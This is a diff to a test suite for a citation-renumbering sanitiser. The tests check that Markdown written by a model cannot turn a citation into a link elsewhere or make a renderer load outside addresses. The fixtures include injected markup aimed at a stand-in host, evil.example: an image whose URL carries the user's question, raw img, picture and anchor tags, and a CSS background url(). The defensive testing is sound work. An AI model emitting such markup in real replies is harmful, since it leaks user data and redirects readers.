@@ -139,12 +139,14 @@ describe("what a model writes cannot send a citation elsewhere", () => {
   it("escapes a raw HTML anchor, which a renderer would make a link of: a citation inside it links nowhere else", () => {
     const reply = 'Timeouts default to 10 s <a href="https://evil.example/x">[2]</a> and <A\nhref="https://evil.example/y">here</a>.';
     const { text, order } = renumbered(reply);
-    expect(text).toBe('Timeouts default to 10 s \\<a href="https://evil.example/x">[1]</a> and \\<A\nhref="https://evil.example/y">here</a>.');
+    expect(text).toBe('Timeouts default to 10 s &lt;a href="https://evil.example/x">[1]&lt;/a> and &lt;A\nhref="https://evil.example/y">here&lt;/a>.');
     expect(order).toEqual([2]);
     // What a renderer shows is the tag as text (a GFM renderer links the bare URL in it as itself).
     expect(new Marked({ gfm: true }).parse(text)).not.toMatch(/<a href="https:\/\/evil\.example\/[xy]">/);
     // In code, and as other tags or text, it is left alone.
-    expect(renumbered("Write `<a href=x>[1]</a>` or <b>[1]</b>, a <abbr>, a<b.").text).toBe("Write `<a href=x>[1]</a>` or <b>[1]</b>, a <abbr>, a<b.");
+    expect(renumbered("Write `<a href=x>[1]</a>` or <b>[1]</b>, a <abbr>, a<b, <https://e.x/> or <me@e.x>.").text).toBe(
+      "Write `<a href=x>[1]</a>` or &lt;b>[1]&lt;/b>, a &lt;abbr>, a<b, <https://e.x/> or <me@e.x>.",
+    );
   });
 
   it("escapes what would make a renderer load an address as it shows the reply: an image, raw HTML that loads", () => {
@@ -152,12 +154,22 @@ describe("what a model writes cannot send a citation elsewhere", () => {
     const reply = 'Done [1]. ![logo](https://evil.example/p?q=my+question) <IMG src="https://evil.example/i"> <picture><source srcset="x"></picture>';
     const { text } = renumbered(reply);
     expect(text).toBe(
-      'Done [1]. \\![logo](https://evil.example/p?q=my+question) \\<IMG src="https://evil.example/i"> \\<picture>\\<source srcset="x"></picture>',
+      'Done [1]. &#33;[logo](https://evil.example/p?q=my+question) &lt;IMG src="https://evil.example/i"> &lt;picture>&lt;source srcset="x">&lt;/picture>',
     );
     const html = new Marked({ gfm: true }).parse(text) as string;
     expect(html).not.toMatch(/<img|<picture|<source/i);
+    // Nor inside an HTML block, where Markdown reads no backslash escape, nor through a style.
+    const block = renumbered(
+      '<div>\n<img src="https://evil.example/b">\n<a href="https://evil.example/c">[2]</a>\n</div>\n\n<span style="background:url(https://evil.example/s)">x</span> [1]',
+    ).text;
+    // (A bare URL in it is linked as itself, its address shown.)
+    const blockHtml = (new Marked({ gfm: true }).parse(block) as string).replace(/<a href="[^"]*">https?:\/\/[^<]*<\/a>/g, "");
+    expect(blockHtml).not.toMatch(/<(img|a|div|span)\b/i);
+    // Nor after a bare URL, where a backslash would be read as part of the URL.
+    const afterUrl = renumbered('See https://e.x/<img src="https://evil.example/u"> and https://e.x/![i](https://evil.example/v) [1]').text;
+    expect(new Marked({ gfm: true }).parse(afterUrl)).not.toMatch(/<img/i);
     // Still read as a citation after it, and left alone in code.
-    expect(renumbered("Great![2] `![x](y)`").text).toBe("Great\\![1] `![x](y)`");
+    expect(renumbered("Great![2] `![x](y)`").text).toBe("Great&#33;[1] `![x](y)`");
   });
 
   it("drops numbers past the references: left, they would cite nothing, or another page once renumbered", () => {
@@ -252,6 +264,10 @@ describe("reading Markdown's blocks as a renderer does", () => {
 
   it("leaves a link's destination and a URL's path as written: a `[2]` there is an address, no citation", () => {
     expect(renumbered("See [the guide]([2]) and [3].")).toEqual({ text: "See [the guide]([2]) and [1].", order: [3] });
+    expect(renumbered("See <https://x.example/?q=[2]>[3] or https://x.example/?a=[1].")).toEqual({
+      text: "See <https://x.example/?q=[2]>[1] or https://x.example/?a=[1].",
+      order: [3],
+    });
     expect(renumbered("See [x](https://e.x/a_(b)/[2]?q=[1]) [3] and http://e.x/[2]/ or <https://e.x/[1]>.")).toEqual({
       text: "See [x](https://e.x/a_(b)/[2]?q=[1]) [1] and http://e.x/[2]/ or <https://e.x/[1]>.",
       order: [3],
